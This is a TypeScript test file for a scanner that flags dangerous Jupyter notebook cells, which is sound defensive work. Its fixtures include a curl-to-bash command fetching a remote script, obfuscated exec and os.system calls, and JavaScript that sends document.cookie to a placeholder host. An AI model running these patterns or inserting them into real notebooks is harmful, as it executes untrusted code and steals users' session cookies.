import { expect, it } from 'vitest';
import { alarms, findingsOf, textFile } from '../testing/findings-of.ts';
import { notebooks } from './index.ts';

const judge = async (...cells: object[]): Promise<string[]> => alarms(await findingsOf(notebooks, [textFile('train.ipynb', JSON.stringify({ cells, metadata: {}, nbformat: 4, nbformat_minor: 5 }))]));
const code = (source: string | string[], html?: string): object => ({ cell_type: 'code', source, metadata: {}, outputs: html === undefined ? [] : [{ output_type: 'display_data', data: { 'text/html': [html] } }] });

it.each([
  ['hidden text that is run', [code(['import base64\n', "exec(base64.b64decode('cGFzcw=='))"])], 'medium ASY-EXE-006'],
  ['a shell that is fed from afar', [code('!curl -s http://host.test/x.sh | bash')], 'medium ASY-EXE-006'],
  ['a name put together', [code('import os\ngetattr(os, "sys" + "tem")("true")')], 'medium ASY-EXE-006'],
  ['a script that reads cookies', [code('%%javascript\nfetch("http://host.test/" + document.cookie)')], 'medium ASY-EXE-006'],
  ['an output that reads cookies', [code('1', '<script>new Image().src = "//host.test/" + document.cookie</script>')], 'medium ASY-EXE-007'],
])('reports %s', async (_, cells, alarm) => {
  expect(await judge(...cells)).toEqual([alarm]);
});

it('leaves ordinary notebooks alone', async () => {
  expect(await judge({ cell_type: 'markdown', source: 'Never run `curl x | sh`.' }, code('!pip install torch\nimport subprocess\nsubprocess.run(["ls"])\nmodel.eval()'), code('fig.show()', '<div id="p"></div><script type="text/javascript">Plotly.newPlot("p", [])</script>'))).toEqual([]);
});
